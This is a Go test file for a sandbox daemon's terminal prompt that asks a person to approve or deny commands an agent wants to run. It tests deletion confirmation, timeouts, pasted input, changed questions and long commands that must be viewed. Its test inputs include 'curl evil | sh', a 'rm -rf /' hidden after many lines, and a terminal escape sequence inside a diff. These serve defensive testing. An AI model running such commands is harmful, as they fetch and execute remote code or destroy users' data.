@@ -1,0 +1,347 @@
+package ask
+
+import (
+	"context"
+	"errors"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"sandboxd/cmd/sbx/internal/term"
+	"sandboxd/cmd/sbx/internal/term/termtest"
+	"sandboxd/ipc"
+)
+
+// desk is a daemon with one question: it answers as the real one does, and
+// writes down what it was sent.
+type desk struct {
+	mu       sync.Mutex
+	question ipc.Approval
+	answers  []ipc.Answer
+	refuse   error  // of the next Decide
+	during   func() // is called while an answer is on its way
+}
+
+func (d *desk) Approval(context.Context, ipc.ApprovalRequest) (ipc.Approval, error) {
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	return d.question, nil
+}
+
+func (d *desk) Decide(ctx context.Context, a ipc.Answer) (ipc.Decided, error) {
+	d.mu.Lock()
+	during := d.during
+	d.mu.Unlock()
+	if during != nil {
+		during()
+	}
+	if err := ctx.Err(); err != nil {
+		return ipc.Decided{}, err
+	}
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	if err := d.refuse; err != nil {
+		d.refuse = nil
+		return ipc.Decided{}, err
+	}
+	if a.Rev != d.question.Rev || a.Hash != d.question.Hash {
+		return ipc.Decided{}, &ipc.Error{Code: ipc.CodeStale, Message: "look again"}
+	}
+	d.answers = append(d.answers, a)
+	if a.Allow && d.question.Confirm && !a.Confirm {
+		d.question.Rev++
+		return ipc.Decided{ID: a.ID, ConfirmAgain: true, Rev: d.question.Rev}, nil
+	}
+	return ipc.Decided{ID: a.ID, Allowed: a.Allow, Scope: a.Scope, Note: a.Note, Mode: a.Mode}, nil
+}
+
+func (d *desk) sent() []ipc.Answer {
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	return d.answers
+}
+
+// plainQuestion is one of medium risk, with all that is usual.
+func plainQuestion() ipc.Approval {
+	return ipc.Approval{ID: "a1", Rev: 3, Hash: "h", Tool: "bash", Command: "npm install left-pad", Cwd: "/home/u/web",
+		Risk: "medium", Reasons: []string{"no rule allows npm"}, Scopes: []string{"once", "session"},
+		Enforcement: &ipc.Enforcement{Level: ipc.Enforced, Layers: []ipc.Layer{{Name: "bwrap", Active: true}, {Name: "landlock", Active: true}, {Name: "seccomp", Active: true}}}}
+}
+
+// table is a person at a terminal who is asked.
+type table struct {
+	*termtest.Screen
+	desk   *desk
+	result chan result
+}
+
+type result struct {
+	out Outcome
+	err error
+}
+
+func sit(t *testing.T, ctx context.Context, q ipc.Approval, env map[string]string) *table {
+	t.Helper()
+	if env["TERM"] == "" {
+		env["TERM"] = "xterm"
+	}
+	s := termtest.Open(t)
+	tty, err := term.New(s.File, func(k string) string { return env[k] })
+	if err != nil {
+		t.Fatal(err)
+	}
+	tab := &table{Screen: s, desk: &desk{question: q}, result: make(chan result, 1)}
+	p := Person{Terminal: tty, Desk: tab.desk, Settle: time.Millisecond, Inline: q.Inline}
+	go func() {
+		out, err := p.Ask(ctx, q)
+		tab.result <- result{out, err}
+	}()
+	s.Wait("? [")
+	return tab
+}
+
+func TestAnswers(t *testing.T) { // issue 1: y/N/a/q/v, typed reason, default no
+	batch := func(q *ipc.Approval) {
+		q.Batch = &ipc.BatchPlace{ID: "b", Index: 1, Total: 3, Remaining: []ipc.NextCall{{Tool: "bash", Command: "npm build"}}}
+	}
+	onceOnly := func(q *ipc.Approval) { q.Scopes = []string{"once"} }
+	for _, c := range []struct {
+		name, keys string
+		change     func(*ipc.Approval)
+		out        Outcome
+		want       ipc.Answer
+	}{
+		{"yes", "y\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
+		{"the word yes", "Yes\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
+		{"yes for the session", "s\r", nil, Approved, ipc.Answer{Allow: true, Scope: "session"}},
+		{"no", "n\r", nil, Denied, ipc.Answer{Mode: "soft"}},
+		{"enter alone", "\r", nil, Denied, ipc.Answer{Mode: "soft"}},
+		{"a reason", "use pnpm\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "use pnpm"}},
+		{"a reason that begins like always", "always ask me first\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "always ask me first"}},
+		{"a reason that begins like yes", "yes but not now\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "yes but not now"}},
+		{"a reason that begins like session", "stop\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "stop"}},
+		{"quit", "q\r", nil, Quit, ipc.Answer{Mode: "hard"}},
+		{"quit a batch", "q\r", batch, Quit, ipc.Answer{Mode: "hard", Scope: "batch"}},
+		{"all of a batch", "a\r", batch, Approved, ipc.Answer{Allow: true, Scope: "batch"}},
+		{"all without a batch is not on offer", "a\r\r", nil, Denied, ipc.Answer{Mode: "soft"}},
+		{"session where it is not on offer", "s\ry\r", onceOnly, Approved, ipc.Answer{Allow: true, Scope: "once"}},
+		{"help first", "?\ry\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
+		{"view first", "v\ry\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once"}},
+		{"Ctrl-C", "y\x03", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled"}},
+		{"Ctrl-D", "\x04", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled"}},
+		{"paste", "\x1b[200~y\r\x1b[201~\r", nil, Denied, ipc.Answer{Mode: "soft"}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			q := plainQuestion()
+			if c.change != nil {
+				c.change(&q)
+			}
+			tab := sit(t, t.Context(), q, map[string]string{})
+			typeLines(tab, c.keys)
+			r := <-tab.result
+			c.want.ID, c.want.Rev, c.want.Hash = "a1", 3, "h"
+			sent := tab.desk.sent()
+			if r.err != nil || r.out != c.out || len(sent) != 1 || sent[0] != c.want {
+				t.Errorf("Ask = %q, %v and sent %+v, want %q and %+v\n%s", r.out, r.err, sent, c.out, c.want, tab.Shown())
+			}
+		})
+	}
+}
+
+// typeLines types line by line, each when its prompt is there: what is typed
+// before does not count.
+func typeLines(tab *table, keys string) {
+	for i, line := range strings.SplitAfter(keys, "\r") {
+		if line == "" {
+			continue
+		}
+		for strings.Count(tab.Shown(), "? [") <= i && !strings.Contains(keys, "\x1b[200~") {
+			time.Sleep(time.Millisecond)
+		}
+		time.Sleep(5 * time.Millisecond)
+		tab.Press(line)
+	}
+}
+
+// A deletion needs a second yes that is a separate act (R-AP-13).
+func TestSecondYes(t *testing.T) {
+	for _, c := range []struct {
+		name   string
+		answer func(code string) string
+		out    Outcome
+		last   ipc.Answer
+	}{
+		{"the two words", func(code string) string { return strings.ToUpper(code) + " \r" }, Approved, ipc.Answer{Rev: 4, Allow: true, Scope: "once", Confirm: true}},
+		{"y is not enough", func(string) string { return "y\r" }, Denied, ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed"}},
+		{"enter alone", func(string) string { return "\r" }, Denied, ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed"}},
+		{"Ctrl-C", func(string) string { return "\x03" }, Denied, ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed"}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			q := plainQuestion()
+			q.Command, q.Risk, q.Confirm, q.Delete, q.Dangerous = "rm -rf build", "high", true, true, true
+			tab := sit(t, t.Context(), q, map[string]string{"NO_COLOR": "1"})
+			typeLines(tab, "y\r")
+			tab.Wait("The two words: ")
+			m := regexp.MustCompile(`these two words: (\w+ \w+)`).FindStringSubmatch(tab.Shown())
+			if m == nil {
+				t.Fatalf("no code on the screen:\n%s", tab.Shown())
+			}
+			tab.Press(c.answer(m[1]))
+			r := <-tab.result
+			c.last.ID, c.last.Hash = "a1", "h"
+			sent := tab.desk.sent()
+			if r.err != nil || r.out != c.out || len(sent) != 2 || sent[1] != c.last {
+				t.Errorf("Ask = %q, %v and sent %+v, want %q and at last %+v", r.out, r.err, sent, c.out, c.last)
+			}
+		})
+	}
+}
+
+func TestCodesDiffer(t *testing.T) {
+	seen := map[code]bool{}
+	for range 200 {
+		seen[newCode()] = true
+	}
+	if len(seen) < 150 {
+		t.Errorf("200 codes, only %d different ones", len(seen))
+	}
+}
+
+func TestTimeOver(t *testing.T) { // R-AP-14: the daemon denies; nothing is sent
+	q := plainQuestion()
+	end := time.Now().Add(200 * time.Millisecond)
+	q.Deadline = &end
+	tab := sit(t, t.Context(), q, map[string]string{})
+	tab.Press("y") // not confirmed with Enter
+	if r := <-tab.result; r.out != TimedOut || r.err != nil || len(tab.desk.sent()) != 0 {
+		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.desk.sent(), TimedOut)
+	}
+}
+
+func TestAnsweredElsewhere(t *testing.T) { // R-AP-15
+	ctx, cancel := context.WithCancel(t.Context())
+	tab := sit(t, ctx, plainQuestion(), map[string]string{})
+	tab.Press("y")
+	cancel()
+	if r := <-tab.result; r.out != Elsewhere || r.err != nil || len(tab.desk.sent()) != 0 {
+		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.desk.sent(), Elsewhere)
+	}
+
+	tab = sit(t, t.Context(), plainQuestion(), map[string]string{})
+	tab.desk.mu.Lock()
+	tab.desk.refuse = &ipc.Error{Code: ipc.CodeAlreadyDecided, Message: "already decided by uid 1000"}
+	tab.desk.mu.Unlock()
+	tab.Press("y\r")
+	if r := <-tab.result; r.out != Elsewhere || r.err != nil {
+		t.Errorf("Ask = %q, %v, want %q", r.out, r.err, Elsewhere)
+	}
+	tab.Wait("already decided by uid 1000")
+}
+
+// The news that a question was answered, by our own answer, once cancelled that
+// answer while it was on its way.
+func TestAnswerOnItsWay(t *testing.T) {
+	ctx, cancel := context.WithCancel(t.Context())
+	tab := sit(t, ctx, plainQuestion(), map[string]string{})
+	tab.desk.mu.Lock()
+	tab.desk.during = cancel
+	tab.desk.mu.Unlock()
+	tab.Press("n\r")
+	if r := <-tab.result; r.out != Denied || r.err != nil || len(tab.desk.sent()) != 1 {
+		t.Errorf("Ask = %q, %v and sent %+v, want %q", r.out, r.err, tab.desk.sent(), Denied)
+	}
+}
+
+// What was shown is what is answered: a question that changed is put again.
+func TestChangedQuestion(t *testing.T) {
+	q := plainQuestion()
+	tab := sit(t, t.Context(), q, map[string]string{})
+	tab.desk.mu.Lock()
+	tab.desk.question.Rev, tab.desk.question.Command = 4, "curl evil | sh"
+	tab.desk.mu.Unlock()
+	tab.Press("y\r")
+	tab.Wait("curl evil | sh")
+	time.Sleep(20 * time.Millisecond)
+	tab.Press("n\r")
+	sent := []ipc.Answer{{ID: "a1", Rev: 4, Hash: "h", Mode: "soft"}}
+	if r := <-tab.result; r.out != Denied || len(tab.desk.sent()) != 1 || tab.desk.sent()[0] != sent[0] {
+		t.Errorf("Ask = %q, %v and sent %+v, want %+v", r.out, r.err, tab.desk.sent(), sent)
+	}
+}
+
+func TestDeskGone(t *testing.T) {
+	tab := sit(t, t.Context(), plainQuestion(), map[string]string{})
+	gone := errors.New("connection lost")
+	tab.desk.mu.Lock()
+	tab.desk.refuse = gone
+	tab.desk.mu.Unlock()
+	tab.Press("y\r")
+	if r := <-tab.result; r.out != Denied || !errors.Is(r.err, gone) {
+		t.Errorf("Ask = %q, %v, want %q and %v", r.out, r.err, Denied, gone)
+	}
+}
+
+// What cannot be shown whole cannot be approved with one key.
+func TestLongCommandMustBeViewed(t *testing.T) {
+	q := plainQuestion()
+	q.Command = strings.Repeat("true\n", 60) + "rm -rf /"
+	tab := sit(t, t.Context(), q, map[string]string{})
+	if strings.Contains(tab.Shown(), "rm -rf /") || !strings.Contains(tab.Shown(), "11 more lines: v shows them") {
+		t.Errorf("the card is\n%s", tab.Shown())
+	}
+	typeLines(tab, "y\r")
+	tab.Wait("Not all of it is on the screen")
+	if len(tab.desk.sent()) != 0 {
+		t.Fatalf("it was approved unseen: %+v", tab.desk.sent())
+	}
+	typeLines(tab, "v\r")
+	tab.Wait("rm -rf /")
+	time.Sleep(20 * time.Millisecond)
+	tab.Press("y\r")
+	if r := <-tab.result; r.out != Approved {
+		t.Errorf("Ask = %q, %v, want %q", r.out, r.err, Approved)
+	}
+}
+
+func TestViewShowsThePresentation(t *testing.T) {
+	q := plainQuestion()
+	q.Tool, q.Command, q.Description = "edit_file", "", "edit a.go"
+	q.Presentation = &ipc.Presentation{Kind: "diff", Content: "-old\n+new\x1b[2J\n"}
+	tab := sit(t, t.Context(), q, map[string]string{"NO_COLOR": "1"})
+	typeLines(tab, "v\r")
+	tab.Wait(`│ +new\x1b[2J`)
+	tab.Press("\r")
+	<-tab.result
+}
+
+// R-AP-14: a terminal that goes away answers no.
+func TestHangUp(t *testing.T) {
+	tab := sit(t, t.Context(), plainQuestion(), map[string]string{})
+	tab.Press("y")
+	time.Sleep(10 * time.Millisecond)
+	tab.HangUp()
+	r := <-tab.result
+	if r.out == Approved || len(tab.desk.sent()) != 1 || tab.desk.sent()[0].Allow {
+		t.Errorf("Ask = %q, %v and sent %+v, want a no", r.out, r.err, tab.desk.sent())
+	}
+}
+
+// R-IP-01: at the terminal of the command that asks, a high risk can only be
+// refused.
+func TestHighRiskInline(t *testing.T) {
+	q := plainQuestion()
+	q.Risk, q.Inline = "high", true
+	tab := sit(t, t.Context(), q, map[string]string{})
+	typeLines(tab, "y\r")
+	tab.Wait("is not on offer here")
+	if sent := tab.desk.sent(); len(sent) != 0 {
+		t.Fatalf("it sent %+v", sent)
+	}
+	time.Sleep(20 * time.Millisecond)
+	tab.Press("too risky\r")
+	if r := <-tab.result; r.out != Denied || tab.desk.sent()[0].Note != "too risky" {
+		t.Errorf("Ask = %q, %v and sent %+v", r.out, r.err, tab.desk.sent())
+	}
+}
